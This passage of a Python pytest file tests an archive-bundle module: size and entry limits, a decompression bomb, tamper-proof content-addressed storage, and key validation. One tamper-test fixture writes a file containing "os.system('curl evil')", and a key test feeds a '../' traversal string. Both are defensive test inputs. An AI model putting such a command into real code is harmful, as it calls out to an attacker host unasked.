    # Refused for its size whatever it holds: garbage gets the same answer as a good bundle.
    for data in (small_bundle.data, b"\0" * len(small_bundle.data)):
        with pytest.raises(BundleError, match="larger than") as exc:
            bundle.inspect(data)
        assert_one_line(exc)
        with pytest.raises(BundleError, match="larger than"):
            bundle.unpack(data, tmp_path / "dest")
    assert not (tmp_path / "dest").exists()


def test_an_archive_exactly_at_the_archive_limit_is_not_refused_for_its_size(
    monkeypatch: pytest.MonkeyPatch, small_bundle: Bundle
) -> None:
    monkeypatch.setattr(bundle, "MAX_ARCHIVE_BYTES", len(small_bundle.data))
    try:
        bundle.inspect(small_bundle.data)
    except BundleError as exc:  # other limits may apply; this one must not
        assert "larger than" not in str(exc)


def test_the_real_archive_limit_refuses_one_byte_more() -> None:
    with pytest.raises(BundleError, match="larger than"):
        bundle.inspect(b"\x1f\x8b" + bytes(bundle.MAX_ARCHIVE_BYTES - 1))


def test_directory_entries_count_toward_the_entry_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(bundle, "MAX_FILES", 3)
    data = tar_gz(reg("a.py"), *(directory(f"d{i}") for i in range(50)))
    with pytest.raises(BundleError):
        bundle.inspect(data)


def test_an_archive_whose_headers_decompress_beyond_the_limits_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(bundle, "MAX_WORKSPACE_BYTES", 64 * 1024)
    monkeypatch.setattr(bundle, "MAX_FILES", 10)
    monkeypatch.setattr(bundle, "MAX_ARCHIVE_BYTES", 256 * 1024)
    info, data = reg("a.py", b"x")
    info.pax_headers = {"comment": "z" * (4 * MIB)}  # 4 MiB of header, a few KiB of gzip
    archive = tar_gz((info, data), compresslevel=9)
    assert len(archive) < 64 * 1024
    with pytest.raises(BundleError):
        bundle.inspect(archive)


# ---- the home store ------------------------------------------------------------------------------


def test_storing_a_bundle_twice_writes_it_once(small_bundle: Bundle) -> None:
    store = FakeStore()
    assert bundle.store_at_home(store, small_bundle) is True
    assert bundle.store_at_home(store, small_bundle) is False
    key = f"iris-bundles/{small_bundle.ref.sha256}.tar.gz"
    assert store.writes == 1
    assert len(store.puts) == 1  # the second call does not even upload the bytes
    assert store.objects == {key: small_bundle.data}
    assert store.keys("iris-bundles/") == [key]


def test_storing_a_bundle_another_writer_just_stored_does_not_overwrite_it(small_bundle: Bundle) -> None:
    class RacingStore(FakeStore):
        def exists(self, key: str) -> bool:
            return False  # the other writer's object lands right after this answer

    store = RacingStore()
    key = bundle.home_key(small_bundle.ref.sha256)
    store.objects[key] = small_bundle.data
    assert bundle.store_at_home(store, small_bundle) is False
    assert store.puts == [(key, True)]  # create-if-absent, never a blind overwrite
    assert store.writes == 0


def test_fetching_a_bundle_returns_its_bytes(small_bundle: Bundle) -> None:
    store = FakeStore()
    bundle.store_at_home(store, small_bundle)
    assert bundle.fetch_from_home(store, small_bundle.ref) == small_bundle.data


def test_fetching_a_tampered_bundle_is_refused(small_bundle: Bundle, tmp_path: Path) -> None:
    store = FakeStore()
    bundle.store_at_home(store, small_bundle)
    key = bundle.home_key(small_bundle.ref.sha256)

    flipped = bytearray(small_bundle.data)
    flipped[len(flipped) // 2] ^= 0x01
    write(tmp_path / "evil", "train.py", "import os; os.system('curl evil')\n")
    for tampered in (bytes(flipped), packed(tmp_path / "evil").data, b""):
        store.objects[key] = tampered
        with pytest.raises(BundleError, match="does not match") as exc:
            bundle.fetch_from_home(store, small_bundle.ref)
        assert_one_line(exc)


@pytest.mark.parametrize(
    "bad",
    ["", "g" * 64, "A" * 64, "a" * 63, "a" * 65, "../" + "a" * 61, "a" * 63 + "\n", " " + "a" * 63],
)
def test_home_key_rejects_anything_but_a_lowercase_hex_sha256(bad: str) -> None:
    with pytest.raises(BundleError):
        bundle.home_key(bad)


def test_home_key_is_the_id_under_the_bundle_prefix() -> None:
    assert bundle.home_key("0" * 64) == f"iris-bundles/{'0' * 64}.tar.gz"


# ---- BundleRef -----------------------------------------------------------------------------------

GOOD_REF = {"sha256": "0123456789abcdef" * 4, "size": 10, "files": 1, "workspace_bytes": 0}


@pytest.mark.parametrize(
    "override",
    [
        pytest.param({"sha256": "0123456789ABCDEF" * 4}, id="uppercase-sha256"),
        pytest.param({"sha256": "0123456789abcdef" * 3}, id="short-sha256"),
        pytest.param({"sha256": "0123456789abcdef" * 4 + "0"}, id="long-sha256"),
        pytest.param({"sha256": "z" * 64}, id="non-hex-sha256"),
        pytest.param({"size": 0}, id="size-0"),
        pytest.param({"size": bundle.MAX_ARCHIVE_BYTES + 1}, id="size-over-limit"),
        pytest.param({"files": 0}, id="no-files"),
        pytest.param({"files": bundle.MAX_FILES + 1}, id="too-many-files"),
        pytest.param({"workspace_bytes": -1}, id="negative-bytes"),
        pytest.param({"workspace_bytes": bundle.MAX_WORKSPACE_BYTES + 1}, id="bytes-over-limit"),
    ],
)
def test_a_bundle_ref_outside_its_bounds_is_refused(override: dict[str, object]) -> None:
    with pytest.raises(ValidationError):
        BundleRef.model_validate({**GOOD_REF, **override})


def test_a_valid_bundle_ref_round_trips_and_describes_itself() -> None:
    ref = BundleRef.model_validate(GOOD_REF)
    assert BundleRef.model_validate_json(ref.model_dump_json()) == ref
    assert ref.describe() == "sha256:0123456789ab (1 file, 0 B)"
